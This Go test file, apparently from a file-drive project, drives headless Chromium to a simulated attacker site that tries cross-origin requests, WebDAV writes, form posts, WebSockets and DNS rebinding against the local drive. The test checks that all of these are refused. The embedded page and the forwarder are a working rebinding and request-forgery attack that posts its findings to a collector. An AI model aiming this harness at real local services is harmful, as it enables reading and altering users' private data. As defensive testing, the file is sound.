package main

import (
	"context"
	"encoding/json"
	"fmt"
	"html/template"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/sheaf-drive/sheaf/internal/testkit"
)

// evil is a site of an attacker that a real browser visits. It knows where the drive is served, which an attacker finds out by trying ports.
type evil struct {
	target  string // HOST:PORT
	got     chan []attempt
	rebound atomic.Bool // the name leads to the target now
}

// An attempt is what a page tried, and what it was let see of it.
type attempt struct {
	How, Saw string
}

// evilPage tries all that a page can: each kind of request that needs no leave of the server, those that do, what an element embeds, sockets,
// and, where its own name was made to lead to the target, what a page of the target may do.
var evilPage = template.Must(template.New("").Parse(`<!doctype html><title>cats</title><body><script>
const target = {{.Target}}, paths = {{.Paths}}, rebind = {{.Rebind}};
const all = [];
const note = (How, Saw) => all.push({How, Saw: String(Saw).slice(0, 4000)});
const within = (p, ms) => Promise.race([p, new Promise((_, no) => setTimeout(() => no(new Error("time is over")), ms))]);
async function request(base, path, how) {
	const name = (how.method || "GET") + " " + base + path + " " + JSON.stringify(how);
	try {
		const r = await within(fetch(base + path, how), 5000);
		note(name, r.type + " " + r.status + " " + await r.text());
	} catch (e) { note(name, "refused: " + e) }
}
function element(make, path) {
	return within(new Promise(done => {
		const e = make("http://" + target + path);
		e.onload = () => { note("element " + e.tagName + path, "loaded"); done() };
		e.onerror = () => { note("element " + e.tagName + path, "failed"); done() };
		document.body.append(e);
	}), 4000).catch(e => note("element " + path, e));
}
function socket(url) {
	return within(new Promise(done => {
		try {
			const s = new WebSocket(url, ["sheaf.events.v1"]);
			s.onopen = () => { note("socket " + url, "OPEN"); done() };
			s.onerror = () => { note("socket " + url, "refused"); done() };
		} catch (e) { note("socket " + url, e); done() }
	}), 4000).catch(e => note("socket " + url, e));
}
async function attack(base) {
	for (const path of paths) for (const credentials of ["omit", "include"]) {
		for (const method of ["GET", "POST", "PUT", "DELETE", "PROPFIND", "MKCOL", "MOVE"]) {
			const body = method == "POST" || method == "PUT" ? "changed by a page" : undefined;
			const headers = method == "MOVE" ? {Destination: base + "/moved"} : undefined;
			await request(base, path, {method, credentials, body, headers});
			if (method == "GET" || method == "POST") await request(base, path, {method, credentials, body, mode: "no-cors"});
		}
		await request(base, path, {method: "POST", credentials, body: "{}", headers: {"Content-Type": "application/json"}});
	}
}
(async () => {
	await attack("http://" + target);
	for (const path of paths) {
		await element(u => Object.assign(document.createElement("script"), {src: u}), path);
		await element(u => Object.assign(document.createElement("img"), {src: u}), path);
		await element(u => Object.assign(document.createElement("link"), {rel: "stylesheet", href: u}), path);
		await element(u => Object.assign(document.createElement("iframe"), {src: u}), path);
		await new Promise(done => { // a form may be sent anywhere
			const f = document.createElement("iframe"); f.name = "f" + Math.random(); document.body.append(f);
			const form = Object.assign(document.createElement("form"), {method: "post", action: "http://" + target + path, target: f.name, enctype: "text/plain"});
			form.append(Object.assign(document.createElement("input"), {name: "{\"path\":\"", value: "\"}"}));
			document.body.append(form); form.submit(); setTimeout(done, 500);
		});
		for (const f of document.querySelectorAll("iframe")) {
			try { note("inside a frame of " + path, f.contentDocument ? f.contentDocument.body.innerText : "not to be seen") } catch (e) { note("inside a frame of " + path, e) }
		}
	}
	await socket("ws://" + target + "/v1/events");
	await fetch(rebind, {method: "POST"}); // from here on the name of this page leads to the target
	for (let i = 0; i < 3; i++) await attack(location.origin);
	await socket("ws://" + location.host + "/v1/events");
	await fetch({{.Report}}, {method: "POST", mode: "no-cors", body: JSON.stringify(all)});
})();
</script>`))

// browse has Chromium visit the site, first with the user's own visit to the target, which the browser may remember the password of, and returns what
// its page tried. The name of the site leads to the site, and to the target once the page is loaded: DNS that is rebound, seen from the browser.
func browse(t *testing.T, target string, login *url.URL, paths ...string) []attempt {
	t.Helper()
	chromium := testkit.Program(t, "chromium", "browser")
	e := &evil{target: target, got: make(chan []attempt, 1)}
	control := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { // at an address that stays
		w.Header().Set("Access-Control-Allow-Origin", "*")
		switch r.URL.Path {
		case "/rebind":
			e.rebound.Store(true)
		case "/report":
			var all []attempt
			if err := json.NewDecoder(r.Body).Decode(&all); err != nil {
				t.Error(err)
			}
			e.got <- all
		}
	}))
	defer control.Close()
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Connection", "close") // the next request looks the name up again
		if r.URL.Path != "/" {
			http.NotFound(w, r)
			return
		}
		if r.URL.RawQuery == "" && login != nil {
			// The user is at the target in another window, and has signed in there.
			_, _ = fmt.Fprintf(w, `<script>open(%q); setTimeout(() => location = "/?attack", 3000)</script>`, login.String())
			return
		}
		if err := evilPage.Execute(w, map[string]any{
			"Target": target, "Paths": paths, "Rebind": control.URL + "/rebind", "Report": control.URL + "/report",
		}); err != nil {
			t.Error(err)
		}
	}))
	defer site.Close()
	front := e.forward(t, site.Listener.Addr().String())
	_, port, _ := net.SplitHostPort(front)

	ctx, cancel := context.WithTimeout(t.Context(), 4*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, chromium, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--disable-popup-blocking",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-proxy-server", "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
		"--host-resolver-rules=MAP evil.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1", "--user-data-dir="+t.TempDir(), "http://evil.example:"+port+"/")
	cmd.Env = append(os.Environ(), "HOME="+t.TempDir())
	var said strings.Builder
	cmd.Stdout, cmd.Stderr = &said, &said
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { cancel(); _ = cmd.Wait() }()
	select {
	case all := <-e.got:
		return all
	case <-ctx.Done():
		t.Fatalf("the page did not report:\n%s", said.String())
	}
	return nil
}

// forward listens at the address of the attacker's name, and hands what comes to the site or, once it is rebound, to the target.
func (e *evil) forward(t *testing.T, site string) (at string) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	t.Cleanup(func() { _ = l.Close(); wg.Wait() })
	wg.Go(func() {
		for {
			in, err := l.Accept()
			if err != nil {
				return
			}
			wg.Go(func() { e.carry(in, site) })
		}
	})
	return l.Addr().String()
}

// carry carries one connection. Where to is told when its first bytes come: a browser opens some in advance.
func (e *evil) carry(in net.Conn, site string) {
	defer func() { _ = in.Close() }()
	first := make([]byte, 64<<10)
	n, err := in.Read(first)
	if err != nil {
		return
	}
	to := site
	if e.rebound.Load() {
		to = e.target
	}
	out, err := net.Dial("tcp", to)
	if err != nil {
		return
	}
	defer func() { _ = out.Close() }()
	if _, err := out.Write(first[:n]); err != nil {
		return
	}
	var wg sync.WaitGroup
	wg.Go(func() {
		_, _ = io.Copy(out, in)
		_ = out.Close()
	})
	_, _ = io.Copy(in, out)
	_ = in.Close()
	wg.Wait()
}

// saw returns the attempts that saw the secret, or an answer of the drive that was not a refusal.
func saw(all []attempt, secret string) (bad []attempt) {
	for _, a := range all {
		if strings.Contains(a.Saw, secret) || strings.Contains(a.Saw, " 200 ") || strings.Contains(a.Saw, " 207 ") || strings.Contains(a.Saw, "OPEN") {
			bad = append(bad, a)
		}
	}
	return bad
}

// M10, T-REBIND: what a page of somebody else's gets and does, in a real Chromium whose user has signed in to the drive. The first case is a
// server without a guard: there the same page reads and writes, so it would notice.
func TestServe_APageInChromiumGetsNothing(t *testing.T) {
	if os.Getenv("SHEAF_LONG") == "" {
		t.Skip("make webdav runs it: a browser is large")
	}
	const secret = "what nobody else may read"
	t.Run("no guard", func(t *testing.T) {
		var wrote atomic.Bool
		open := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.Method == http.MethodPut || r.Method == http.MethodPost {
				wrote.Store(true)
			}
			_, _ = io.WriteString(w, secret)
		}))
		defer open.Close()
		all := browse(t, open.Listener.Addr().String(), nil, "/secret")
		if len(saw(all, secret)) == 0 || !wrote.Load() {
			t.Errorf("the page got nothing of a server that is open to all: %v, wrote %v", all, wrote.Load())
		}
	})
	t.Run("webdav", func(t *testing.T) {
		d := newDAV(t)
		d.sheaf(t, "cp", file(t, secret), "sheaf:/secret")
		before := d.sheaf(t, "ls", "-lR", "/")
		u, err := url.Parse(d.url)
		if err != nil {
			t.Fatal(err)
		}
		u.User, u.Path = url.UserPassword(d.user, d.secret), "/secret"
		check(t, browse(t, u.Host, u, "/", "/secret"), secret)
		if after := d.sheaf(t, "ls", "-lR", "/"); after != before {
			t.Errorf("a page changed the drive from\n%s\nto\n%s", before, after)
		}
		if got := d.sheaf(t, "cat", "/secret"); got != secret {
			t.Errorf("the file is %q now", got)
		}
	})
	t.Run("api", func(t *testing.T) {
		d, _ := startAPI(t)
		d.sheaf("cp", file(t, secret), "sheaf:/secret")
		before := d.sheaf("ls", "-lR", "/")
		u, err := url.Parse(d.url)
		if err != nil {
			t.Fatal(err)
		}
		check(t, browse(t, u.Host, nil, "/v1/files/secret", "/v1/status", "/metrics", "/sheaf.v1.Files/List", "/openapi.json"), secret)
		if after := d.sheaf("ls", "-lR", "/"); after != before {
			t.Errorf("a page changed the drive from\n%s\nto\n%s", before, after)
		}
	})
}

// check fails where a page saw something.
func check(t *testing.T, all []attempt, secret string) {
	t.Helper()
	if len(all) < 50 {
		t.Errorf("the page tried %d things only", len(all))
	}
	refused := 0
	for _, a := range all {
		if strings.Contains(a.Saw, " 421 ") || strings.Contains(a.Saw, " 403 ") || strings.Contains(a.Saw, " 401 ") {
			refused++
		}
	}
	if refused == 0 {
		t.Errorf("nothing came to the drive by a name that was rebound: %v", all)
	}
	for _, a := range saw(all, secret) {
		t.Errorf("%s saw %s", a.How, a.Saw)
	}
	t.Logf("%d attempts, of which %d were seen to be refused by name", len(all), refused)
}

// file makes a file of this machine and returns where it is.
func file(t *testing.T, body string) string {
	t.Helper()
	name := filepath.Join(t.TempDir(), "file")
	if err := os.WriteFile(name, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	return name
}
